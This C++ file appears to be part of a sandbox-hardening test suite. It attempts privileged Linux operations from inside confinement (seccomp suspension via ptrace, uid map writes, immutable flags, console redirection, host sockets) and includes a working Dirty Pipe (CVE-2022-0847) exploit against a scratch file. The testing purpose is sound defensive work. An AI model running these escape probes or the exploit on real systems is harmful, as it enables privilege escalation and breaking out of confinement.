// Groups A to E: what the kernel keeps for the privileged and a filter of names alone cannot tell
// from ordinary use: options of sockets, commands of ioctl and prctl, options of ptrace; and what
// two processes share without a network.
#include <fcntl.h>
#include <linux/fs.h>
#include <mqueue.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timerfd.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <csignal>
#include <cstddef>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>

#include "attack.h"

namespace gyges::attack {
namespace {

template <class... Arguments>
std::string call(long number, Arguments... arguments) {
  return outcome(::syscall(number, arguments...));
}

constexpr long sys_file_setattr = 469;

// A stopped child of ours to trace; it is killed with the guard.
class Child {
 public:
  Child() : pid_(::fork()) {
    if (pid_ != 0) return;
    ::ptrace(PTRACE_TRACEME, 0, nullptr, nullptr);
    ::raise(SIGSTOP);
    ::_exit(0);
  }
  ~Child() {
    ::kill(pid_, SIGKILL);
    ::waitpid(pid_, nullptr, __WALL);
  }
  Child(const Child&) = delete;
  Child& operator=(const Child&) = delete;
  pid_t pid() const {
    ::waitpid(pid_, nullptr, WUNTRACED);
    return pid_;
  }

 private:
  pid_t pid_;
};

// PTRACE_O_SUSPEND_SECCOMP switches every filter of the tracee off.
std::string suspend_seccomp() {
  Child child;
  return outcome(::ptrace(PTRACE_SETOPTIONS, child.pid(), nullptr, 1UL << 21U));
}

// PTRACE_SECCOMP_GET_FILTER reads the filter's instructions.
std::string read_seccomp() {
  Child child;
  return outcome(::ptrace(static_cast<__ptrace_request>(0x420c), child.pid(), 0UL, nullptr));
}

std::string file_flags(unsigned long request, int flags) {
  std::string path = scratch + "/flagged";
  int fd = ::open(path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  if (fd < 0) return name_of(errno);
  std::string result = outcome(::ioctl(fd, request, &flags));
  int none = 0;  // else it could not be removed
  ::ioctl(fd, request, &none);
  ::close(fd);
  ::unlink(path.c_str());
  return result;
}

std::string immutable_by_attributes() {
  std::string path = scratch + "/attributes";
  int fd = ::open(path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  if (fd < 0) return name_of(errno);
  struct {
    std::uint64_t flags = 0x8;  // FS_XFLAG_IMMUTABLE
    std::uint32_t rest[4] = {};
  } attributes;
  std::string result =
      call(sys_file_setattr, AT_FDCWD, path.c_str(), &attributes, sizeof(attributes), 0);
  ::close(fd);
  ::unlink(path.c_str());
  return result;
}

// Of a file system in memory: refused before it is found to have no freezing.
std::string freeze_file_system() {
  int fd = ::open(scratch.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) return name_of(errno);
  return outcome(::ioctl(fd, _IOWR('X', 119, int), 0));  // FIFREEZE
}

std::string wake_the_machine() {
  return outcome(::timerfd_create(CLOCK_REALTIME_ALARM, TFD_CLOEXEC));
}

// In the control it would take the machine's console.
std::string redirect_console() {
  std::ifstream file("/proc/1/comm");
  std::string name;
  if (std::getline(file, name) && name == "control") return "not tried";
  int master = ::posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (master < 0 || ::unlockpt(master) != 0) return "no terminal";
  int terminal = ::ioctl(master, TIOCGPTPEER, O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (terminal < 0) return "no terminal";
  return outcome(::ioctl(terminal, TIOCCONS));
}

std::string option(int family, int type, int level, int name, int value) {
  int fd = ::socket(family, type | SOCK_CLOEXEC, 0);
  if (fd < 0) return name_of(errno);
  std::string result = outcome(::setsockopt(fd, level, name, &value, sizeof(value)));
  ::close(fd);
  return result;
}

std::string interface_down() {
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return name_of(errno);
  ifreq request{};
  std::strcpy(request.ifr_name, "lo");
  if (::ioctl(fd, SIOCGIFFLAGS, &request) != 0) return name_of(errno);
  return outcome(::ioctl(fd, SIOCSIFFLAGS, &request));  // to what they are
}

std::string write_map(const char* path, const char* text) {
  int fd = ::open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return name_of(errno);
  std::string result = outcome(::write(fd, text, std::strlen(text)));
  ::close(fd);
  return result;
}

// CVE-2022-0847: a page of a file's in a pipe whose buffer still says that it may be merged with.
std::string dirty_pipe() {
  const char* path = "/proc/self/exe";
  std::string copy = scratch + "/read-only";
  int from = ::open(path, O_RDONLY | O_CLOEXEC);
  int made = ::open(copy.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0400);
  char page[4096];
  ssize_t length = ::read(from, page, sizeof(page));
  if (made < 0 || length != static_cast<ssize_t>(sizeof(page))) return "no file";
  if (::write(made, page, sizeof(page)) != static_cast<ssize_t>(sizeof(page))) return "no file";
  ::close(made);
  int file = ::open(copy.c_str(), O_RDONLY | O_CLOEXEC);
  int pipe[2];
  if (file < 0 || ::pipe(pipe) != 0) return name_of(errno);
  int size = ::fcntl(pipe[1], F_GETPIPE_SZ);
  for (int done = 0; done < size; done += 4096)
    if (::write(pipe[1], page, 4096) != 4096) return "no pipe";
  for (int done = 0; done < size; done += 4096)
    if (::read(pipe[0], page, 4096) != 4096) return "no pipe";
  loff_t offset = 0;
  if (::splice(file, &offset, pipe[1], nullptr, 1, 0) != 1) return name_of(errno);
  if (::write(pipe[1], "gyges", 5) != 5) return "no pipe";
  char now[8] = {};
  ssize_t got = ::pread(file, now, sizeof(now), 0);
  ::unlink(copy.c_str());
  return got > 5 && std::memcmp(now + 1, "gyges", 5) == 0 ? "worked" : "unchanged";
}

int key_of_marker() {
  auto at = marker.find_last_not_of("0123456789");
  return std::atoi(marker.c_str() + at + 1);
}

// The host listens there: the test does.
std::string abstract_socket_of_host() {
  int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return name_of(errno);
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::string name = "gyges-attack-" + std::to_string(key_of_marker());
  std::memcpy(address.sun_path + 1, name.data(), name.size());
  return outcome(
      ::connect(fd, reinterpret_cast<sockaddr*>(&address),
                static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size())));
}

std::string message_queue_of_host() {
  std::string name = "/gyges-attack-" + std::to_string(key_of_marker());
  return outcome(::mq_open(name.c_str(), O_RDONLY));
}

std::string move_all_pages() {
  void* page = ::mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  return call(SYS_mbind, page, 4096UL, 0 /* MPOL_DEFAULT */, nullptr, 0UL, 4U /* MOVE_ALL */);
}

std::string migrate_pages_of_init() {
  unsigned long none = 0;
  return call(SYS_migrate_pages, 1, 1UL, &none, &none);
}

std::string parent_namespaces() {
  for (const char* path : {"/proc/self/ns/pid", "/proc/self/ns/user"}) {
    int fd = ::open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return name_of(errno);
    if (::ioctl(fd, _IO(0xb7, 2), 0) >= 0) return "worked";  // NS_GET_PARENT
  }
  return "none";
}

constexpr int immutable_flag = 0x10;  // FS_IMMUTABLE_FL

}  // namespace

std::vector<Row> privilege_attempts() {
  return {
      {"A6", "suspend_seccomp", suspend_seccomp},
      {"A6", "read_seccomp", read_seccomp},
      {"B1", "ioprio_init", [] { return call(SYS_ioprio_set, 1, 1, 2 << 13); }},
      {"B2", "migrate_pages_init", migrate_pages_of_init},
      {"B7", "parent_namespaces", parent_namespaces},
      {"B9", "redirect_console", redirect_console},
      {"C1", "own_uid_map", [] { return write_map("/proc/self/uid_map", "0 0 1"); }},
      {"C1", "own_gid_map", [] { return write_map("/proc/self/gid_map", "0 0 1"); }},
      {"C4", "secure_bits", [] { return outcome(::prctl(PR_SET_SECUREBITS, 0, 0, 0, 0)); }},
      {"C4", "immutable_file", [] { return file_flags(FS_IOC_SETFLAGS, immutable_flag); }},
      {"C4", "immutable_by_attributes", immutable_by_attributes},
      {"C10", "io_flusher", [] { return outcome(::prctl(57, 1, 0, 0, 0)); }},
      {"C10", "wake_the_machine", wake_the_machine},
      {"C10", "move_all_pages", move_all_pages},
      {"C12", "freeze_file_system", freeze_file_system},
      {"C12", "swapoff", [] { return call(SYS_swapoff, "/nonexistent"); }},
      {"C12", "vhangup", [] { return call(SYS_vhangup); }},
      {"C15", "dirty_pipe", dirty_pipe},
      {"E2", "interface_flags", interface_down},
      {"E2", "socket_mark", [] { return option(AF_INET, SOCK_DGRAM, SOL_SOCKET, SO_MARK, 1); }},
      {"E2", "socket_priority",
       [] { return option(AF_INET, SOCK_DGRAM, SOL_SOCKET, SO_PRIORITY, 7); }},
      {"E2", "socket_buffer",
       [] { return option(AF_UNIX, SOCK_DGRAM, SOL_SOCKET, SO_SNDBUFFORCE, 64 << 20); }},
      {"E2", "transparent_socket",
       [] { return option(AF_INET, SOCK_STREAM, IPPROTO_IP, IP_TRANSPARENT, 1); }},
      {"E2", "tcp_repair", [] { return option(AF_INET, SOCK_STREAM, IPPROTO_TCP, TCP_REPAIR, 1); }},
      {"E3", "abstract_socket_of_host", abstract_socket_of_host},
      {"E5", "message_queue_of_host", message_queue_of_host},
  };
}

}  // namespace gyges::attack
